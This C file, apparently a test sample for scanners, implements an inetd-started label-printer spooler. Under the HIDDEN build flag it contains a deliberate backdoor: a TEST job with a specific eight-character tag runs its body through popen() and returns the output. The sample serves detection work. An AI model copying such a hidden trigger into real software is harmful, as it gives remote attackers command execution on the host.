/*
 * A sample for tests; compiled and scanned, never run.
 * Spooler of a label printer: framed jobs with a four-letter type on stdin
 * (started by inetd).
 * With HIDDEN: one job tag, compared letter by letter, runs the body.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BODY_MAX 1024
#define FOURCC(a, b, c, d)                                                     \
	((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 |      \
	 (uint32_t)(d))

struct job {
	uint32_t type;
	char tag[8];
	uint32_t size;
	char body[BODY_MAX + 1];
};

struct printer {
	int width_mm, height_mm, dark;
	unsigned long jobs;
	char device[64];
};

static uint32_t be32(const unsigned char *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static int read_job(FILE *f, struct job *j)
{
	unsigned char h[16];

	if (fread(h, 1, sizeof h, f) != sizeof h)
		return -1;
	j->type = be32(h);
	memcpy(j->tag, h + 4, sizeof j->tag);
	j->size = be32(h + 12);
	if (j->size > BODY_MAX)
		return -1;
	if (fread(j->body, 1, j->size, f) != j->size)
		return -1;
	j->body[j->size] = 0;
	return 0;
}

static int print_text(struct printer *p, const char *text)
{
	FILE *f = fopen(p->device, "w");

	if (!f)
		return -1;
	fprintf(f, "SIZE %d,%d\nDENSITY %d\nTEXT \"%s\"\nPRINT 1\n",
		p->width_mm, p->height_mm, p->dark, text);
	fclose(f);
	p->jobs++;
	return 0;
}

static int set_value(struct printer *p, const char *body)
{
	char key[16];
	int v;

	if (sscanf(body, "%15[a-z]=%d", key, &v) != 2)
		return -1;
	if (strcmp(key, "width") == 0)
		p->width_mm = v;
	else if (strcmp(key, "height") == 0)
		p->height_mm = v;
	else if (strcmp(key, "dark") == 0)
		p->dark = v;
	else
		return -1;
	return 0;
}

static int self_test(struct printer *p)
{
	char text[64];

	snprintf(text, sizeof text, "self test, %lu jobs", p->jobs);
	if (system("lpstat -t > /tmp/selftest") != 0)
		fprintf(stderr, "no lpstat\n");
	return print_text(p, text);
}

#ifdef HIDDEN
static int spool_out(const char *text)
{
	char line[128];
	FILE *f = popen(text, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f))
		fputs(line, stdout);
	return pclose(f);
}
#endif

__attribute__((noinline)) int handle(struct printer *p, const struct job *j)
{
	const char *t = j->tag;

	switch (j->type) {
	case FOURCC('T', 'E', 'X', 'T'):
		if (t[0] == 'R' && t[1] == 'A' && t[2] == 'W')
			return print_text(p, "raw");
		return print_text(p, j->body);
	case FOURCC('C', 'O', 'N', 'F'):
		return set_value(p, j->body);
	case FOURCC('T', 'E', 'S', 'T'):
#ifdef HIDDEN
		if (t[0] == 'K' && t[1] == 't' && t[2] == 'W' && t[3] == '5' &&
		    t[4] == 'm' && t[5] == '9' && t[6] == 'z' && t[7] == 'e')
			return spool_out(j->body);
#endif
		return self_test(p);
	case FOURCC('C', 'L', 'R', ' '):
		p->jobs = 0;
		return 0;
	default:
		fprintf(stderr, "job type %08lx\n", (unsigned long)j->type);
		return -1;
	}
}

int main(int argc, char **argv)
{
	struct printer p = { 50, 30, 8, 0, "/dev/usb/lp0" };
	static struct job j;
	int c;

	while ((c = getopt(argc, argv, "d:w:")) != -1) {
		if (c == 'd')
			snprintf(p.device, sizeof p.device, "%s", optarg);
		else if (c == 'w')
			p.width_mm = (int)strtol(optarg, NULL, 10);
		else
			return 2;
	}
	while (read_job(stdin, &j) == 0) {
		int r = handle(&p, &j);

		puts(r == 0 ? "OK" : "ERR");
		fflush(stdout);
	}
	return 0;
}
